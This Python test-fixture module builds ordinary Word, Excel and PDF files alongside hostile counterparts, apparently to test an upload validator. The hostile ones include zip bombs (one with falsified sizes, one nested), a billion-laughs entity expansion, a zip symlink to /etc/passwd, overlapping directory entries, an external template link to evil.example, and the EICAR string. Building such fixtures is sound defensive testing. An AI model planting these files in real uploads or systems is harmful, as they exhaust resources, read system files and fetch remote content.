"""Builds honest papers and their evil twins for the tests, in memory."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
import zlib

import docx
import numpy as np
import xlsxwriter

from weicheng.evidence.tests.drawn import jpeg

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MB = 1024 * 1024


def word() -> bytes:
    document, buffer = docx.Document(), io.BytesIO()
    document.add_paragraph("关于整改红叶镇张家沟小区环境卫生问题的函")
    document.save(buffer)
    return buffer.getvalue()


def excel(*, photos: int = 0) -> bytes:
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer)
    sheet = book.add_worksheet("问题台账")
    for row in range(50):
        sheet.write_row(row, 0, [row, "张家沟小区", "楼道堆物", "12处"])
    for row in range(photos):
        sheet.insert_image(row, 5, "p.jpg", {"image_data": io.BytesIO(jpeg(seed=row))})
    book.close()
    return buffer.getvalue()


def packed(parts: dict[str, bytes], *, compressed: bool = True) -> bytes:
    buffer = io.BytesIO()
    how = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", how) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def word_with(parts: dict[str, bytes]) -> bytes:
    """The smallest docx with further parts."""
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": b"<w/>", **parts})


def sheet_with(parts: dict[str, bytes]) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<w/>", **parts})


def bomb(kind: str, size: int = 300 * MB) -> bytes:
    """An office paper with one part of `size` zeros, packed in pieces."""
    main = "word/document.xml" if kind == "docx" else "xl/workbook.xml"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(main, b"<w/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=False) as part:
            for _ in range(size // MB):
                part.write(bytes(MB))
    return buffer.getvalue()


def lying_bomb() -> bytes:
    """The directory says 1,000 bytes; 60 MB come out."""
    data = bytearray(bomb("xlsx", 60 * MB))
    real = struct.pack("<I", 60 * MB)
    while (at := data.find(real)) >= 0:
        data[at : at + 4] = struct.pack("<I", 1000)
    return bytes(data)


def nested_bomb() -> bytes:
    inner = packed({f"{each}.zip": packed({"0": bytes(5 * MB)}) for each in range(4)})
    return word_with({"word/media/image1.png": inner})


def laughs() -> bytes:
    lines = ['<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "ha">']
    for before, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f'<!ENTITY {name} "{f"&{before};" * 10}">')
    return packed(
        {
            "[Content_Types].xml": TYPES,
            "word/document.xml": ("".join(lines) + "]><w>&i;</w>").encode(),
        }
    )


def with_link() -> bytes:
    buffer = io.BytesIO(word())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("word/passwd")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def locked_zip() -> bytes:
    """A docx whose parts say that they are encrypted."""
    data = bytearray(word_with({}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def laid_over() -> bytes:
    """Fifty names in the directory for one and the same packed part."""
    data = word_with({"word/media/a.bin": bytes(range(256)) * 40})
    start = data.index(b"PK\x01\x02")
    end = data.index(b"PK\x05\x06")
    last = data.rindex(b"PK\x01\x02")
    entry = data[last:end]
    more = b"".join(entry.replace(b"a.bin", b"%05d" % each) for each in range(200))
    directory = data[start:end] + more
    tail = bytearray(data[end:])
    struct.pack_into("<HHII", tail, 8, 203, 203, len(directory), start)
    return data[:start] + directory + bytes(tail)


def outside_template() -> bytes:
    relation = (
        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
        b' TargetMode="External"/>'
        b"</Relationships>"
    )
    return word_with({"word/_rels/settings.xml.rels": relation})


def ole(words: bytes = b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + words + bytes(1024)


def scan() -> bytes:
    """A PDF of 20 MB whose image bytes look, by chance, like all sorts of short marks."""
    noise = np.random.default_rng(1).bytes(20 * MB) + b"/JS (x) #4A PK\x05\x06 /JS\n" * 9
    picture = b"9 0 obj << /Length %d >> stream\n%s\nendstream endobj\n" % (len(noise), noise)
    start, end = pdf().split(b"xref", 1)
    return start + picture + b"xref" + end


def pdf(*, catalogue: bytes = b"", stream: bytes = b"", tail: bytes = b"") -> bytes:
    """A one-page PDF with something more in its catalogue, an object stream, or behind its end."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    if stream:
        packed_stream = zlib.compress(stream)
        head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(
            packed_stream
        )
        objects.append(head + b"\nstream\n" + packed_stream + b"\nendstream")
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        start,
    )
    return bytes(out) + tail
